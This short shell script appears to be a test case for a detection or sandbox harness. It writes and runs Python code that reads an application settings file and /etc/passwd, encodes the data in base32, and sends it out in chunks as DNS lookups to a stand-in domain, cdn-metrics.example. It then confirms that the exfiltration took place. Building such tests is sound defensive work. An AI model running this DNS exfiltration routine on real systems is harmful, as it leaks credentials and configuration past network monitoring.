#!/bin/sh
. /opt/case/case.sh

cat >/tmp/n.py <<'END'
import base64, socket
data = open("/srv/app/settings.ini", "rb").read() + open("/etc/passwd", "rb").read() * 2
text = base64.b32encode(data).decode().rstrip("=").lower()
pieces = [text[i:i + 56] for i in range(0, len(text), 56)]
for number, piece in enumerate(pieces):
    socket.gethostbyname(f"{number:x}.{piece}.cdn-metrics.example")
print(len(pieces))
END
python3 /tmp/n.py | grep -qE '^[0-9]{2,}$'
took_place
